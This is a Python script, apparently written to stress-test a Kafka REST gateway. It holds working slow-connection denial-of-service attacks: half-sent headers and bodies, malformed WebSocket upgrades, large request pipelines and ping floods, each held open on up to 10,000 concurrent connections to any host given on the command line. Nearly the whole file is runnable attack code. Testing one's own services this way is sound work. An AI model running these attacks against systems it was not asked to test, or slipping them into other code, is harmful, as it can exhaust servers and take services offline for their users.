"""Attacks on a gateway's port, bounded in number and time: connections that want too much, or never go on.

Each sends the same bytes on many connections and tells what became of them. Only the standard library is needed, so that
they run in any pod that has Python: `python3 attacks.py HOST PORT half-bodies`.
"""

import asyncio
import base64
import contextlib
import re
import socket
import ssl
import sys
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass, field

OPENED_AT_A_TIME = 200
CONNECT_SECONDS = 10.0
MOST_CONNECTIONS = 10_000


@dataclass(kw_only=True)
class Seen:
    """What became of the connections of an attack."""

    opened: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    """Of answers; only the first of each connection is looked at."""
    closed: int = 0
    """Ended by the other side."""
    left: int = 0
    """Still open at the end."""


async def hold(
    host: str,
    port: int,
    payload: bytes,
    *,
    count: int,
    seconds: float,
    reads: bool = True,
    tls: ssl.SSLContext | None = None,
    then: Sequence[tuple[float, bytes]] = (),
) -> Seen:
    """Open connections, send `payload` on each and wait.

    Args:
        host: where the gateway listens.
        port: the same.
        payload: what each connection sends first.
        count: connections, at most MOST_CONNECTIONS.
        seconds: how long each connection is held, from the moment it is open, unless the other side ends it.
        reads: whether answers are taken; otherwise as little of them as the operating system lets happen.
        tls: speak TLS.
        then: pauses in seconds, and what is sent after each of them.
    """
    seen = Seen()
    slots = asyncio.Semaphore(OPENED_AT_A_TIME)

    async def one() -> None:
        async with slots:
            try:
                async with asyncio.timeout(CONNECT_SECONDS):
                    connection = socket.socket()
                    connection.setblocking(False)
                    if not reads:
                        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2**12)
                    await asyncio.get_running_loop().sock_connect(connection, (host, port))
                    reader, writer = await asyncio.open_connection(
                        sock=connection, ssl=tls, limit=2**10, server_hostname=host if tls else None
                    )
            except (OSError, TimeoutError):
                return
            seen.opened += 1
        if not reads:
            writer.transport.pause_reading()  # type: ignore[attr-defined]
        try:
            async with asyncio.timeout(seconds):
                writer.write(payload)
                for pause, more in then:
                    await asyncio.sleep(pause)
                    writer.write(more)
                if not reads:
                    while not writer.transport.is_closing():
                        await asyncio.sleep(0.5)
                    seen.closed += 1
                    return
                first = await reader.read(1024)
                found = re.match(rb"HTTP/1\.1 (\d{3})", first)
                if found:
                    seen.statuses[int(found[1])] += 1
                while await reader.read(1024):
                    pass
                seen.closed += 1
        except TimeoutError:
            seen.left += 1
        except OSError:
            seen.closed += 1
        finally:
            writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(min(count, MOST_CONNECTIONS))))
    return seen


def basic(user: str, password: str) -> bytes:
    """The field by which a user logs in."""
    return b"Authorization: Basic " + base64.b64encode(f"{user}:{password}".encode()) + b"\r\n"


def half_body(path: str = "/topics/any", announced: int = 65_536, sent: int = 65_000, login: bytes = b"") -> bytes:
    """A write whose body never ends."""
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/vnd.kafka.json.v2+json\r\n".encode()
    return head + login + b"Content-Length: %d\r\n\r\n" % announced + b" " * sent


def half_head(size: int = 32_000) -> bytes:
    """A head that never ends."""
    return b"GET /topics HTTP/1.1\r\nHost: x\r\nX-Filling: " + b"x" * size


def upgrade(method: str = "GET", body: bytes = b"", path: str = "/topics/any/stream", more: bytes = b"") -> bytes:
    """The opening of a WebSocket, with a body that must not be there."""
    framing = b"Content-Length: %d\r\n" % len(body) if body else b""
    return (
        f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n".encode()
        + b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        + more
        + framing
        + b"\r\n"
        + body
    )


def request(path: str, login: bytes = b"", times: int = 1) -> bytes:
    """A read, also many times behind each other."""
    return (f"GET {path} HTTP/1.1\r\nHost: x\r\n".encode() + login + b"\r\n") * times


def pings(count: int) -> bytes:
    """Pings of a WebSocket; each is answered by a pong of the same size."""
    return (b"\x89\xfd" + b"\0\0\0\0" + b"x" * 125) * count


STRANGERS = {
    "nothing": b"",
    "half-heads": half_head(),
    "half-bodies": half_body(),
    "upgrades": upgrade("POST", b"hello"),
    "pipelines": request("/healthz", times=8000),
}
"""What somebody without credentials can send."""


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        print(
            asyncio.run(hold(sys.argv[1], int(sys.argv[2]), STRANGERS[sys.argv[3]], count=MOST_CONNECTIONS, seconds=60))
        )
